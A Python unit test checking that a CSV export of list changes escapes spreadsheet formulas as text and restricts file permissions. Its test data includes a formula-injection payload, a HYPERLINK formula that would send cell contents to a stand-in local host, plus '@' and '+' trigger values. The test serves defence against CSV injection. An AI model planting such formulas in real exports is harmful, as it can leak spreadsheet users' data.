"""A name that is a formula, in a difference exported for a spreadsheet: it stays text."""

import csv
from pathlib import Path

from cordillera.cli.list_version import write_changes
from cordillera.desks.people.lists_model import EntryChange, FieldChange

FORMULA = '=HYPERLINK("http://127.0.0.1:9/?"&A1)'


def test_a_formula_in_a_difference_is_text(tmp_path: Path) -> None:
    path = tmp_path / "difference.csv"
    fields = (FieldChange("people.field.name", (), (FORMULA, "+1")),)
    write_changes(path, [EntryChange("@SUM(A1)", "added", FORMULA, fields)], "TLP:AMBER")
    assert path.stat().st_mode & 0o777 == 0o600
    with path.open(newline="") as file:
        _, row = csv.reader(file)
    assert row == [
        "added",
        "'@SUM(A1)",
        "'" + FORMULA,
        "people.field.name",
        "",
        "'" + FORMULA + "; +1",
        "TLP:AMBER",
    ]
